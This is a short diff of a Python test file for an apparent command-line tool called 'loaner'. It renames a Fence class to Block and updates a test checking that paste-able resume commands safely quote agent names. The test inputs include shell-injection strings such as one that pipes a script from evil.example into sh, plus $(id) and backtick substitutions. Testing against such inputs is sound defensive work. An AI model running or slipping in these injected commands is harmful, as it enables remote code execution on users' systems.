@@ -18,11 +18,11 @@ from hypothesis import strategies as st
 import loaner
 from loaner import catalog
 from loaner.audit.plain import plain
+from loaner.blocks.blocks import Block
 from loaner.characters import DEFAULT_IGNORABLE, hides, is_hidden, marked
 from loaner.cli._say import say
 from loaner.consent import Proposal
 from loaner.errors import InvalidArguments, LoanerError
-from loaner.fences import Fence
 from loaner.web import pages
 
 CATALOG = catalog.load()
@@ -152,6 +152,6 @@ def test_verbs_print_through_the_one_function() -> None:
 
 @pytest.mark.parametrize("name", ["x; curl https://evil.example|sh", "$(id)", "a'b", "`id`", "a\nb"])
 def test_a_command_to_paste_names_one_thing_whatever_it_is_called(name: str) -> None:
-    fence = Fence("agent", name, "olga", datetime(2026, 1, 1, tzinfo=UTC))
+    fence = Block("agent", name, "olga", datetime(2026, 1, 1, tzinfo=UTC))
     assert shlex.split(fence.lifting()) == ["loaner", "resume", "--agent", name]
     assert shlex.split(fence.refusal().do.partition(": ")[2]) == ["loaner", "resume", "--agent", name]
